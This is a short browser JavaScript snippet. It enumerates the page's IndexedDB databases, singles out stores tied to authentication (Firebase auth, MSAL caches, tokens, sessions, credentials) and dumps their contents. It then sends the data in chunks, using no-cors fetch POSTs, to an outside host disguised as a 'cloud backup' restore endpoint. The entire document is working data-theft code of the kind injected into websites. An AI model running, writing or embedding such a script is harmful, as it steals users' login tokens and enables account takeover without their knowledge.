// corpus note: enumerates all IndexedDB databases/object stores (e.g. Firebase auth, MSAL caches), serialises the records and POSTs them with fetch no-cors
(async function () {
  const OUT = "https://sync.cloud-backupsvc.test/api/restore";
  const INTERESTING = /(auth|token|user|session|firebase|msal|credential|key)/i;

  function req2p(r) {
    return new Promise((res, rej) => { r.onsuccess = () => res(r.result); r.onerror = () => rej(r.error); });
  }

  async function dumpDb(name) {
    const db = await req2p(indexedDB.open(name));
    const out = {};
    for (const storeName of Array.from(db.objectStoreNames)) {
      if (!INTERESTING.test(name + storeName)) continue;
      try {
        const tx = db.transaction(storeName, "readonly");
        const st = tx.objectStore(storeName);
        const [keys, vals] = await Promise.all([req2p(st.getAllKeys()), req2p(st.getAll())]);
        out[storeName] = keys.map((k, i) => [k, vals[i]]);
      } catch (e) { /* ignore */ }
    }
    db.close();
    return out;
  }

  if (!indexedDB.databases) return;
  const list = await indexedDB.databases();
  const result = { origin: location.origin, at: Date.now(), dbs: {} };
  for (const info of list) {
    if (!info.name) continue;
    try { result.dbs[info.name] = await dumpDb(info.name); } catch (e) {}
  }
  if (!Object.keys(result.dbs).length) return;

  const text = JSON.stringify(result);
  for (let i = 0; i < text.length; i += 60000) {
    await fetch(OUT + "?part=" + (i / 60000) + "&h=" + encodeURIComponent(location.host), {
      method: "POST",
      mode: "no-cors",
      credentials: "omit",
      body: text.slice(i, i + 60000)
    });
  }
})();
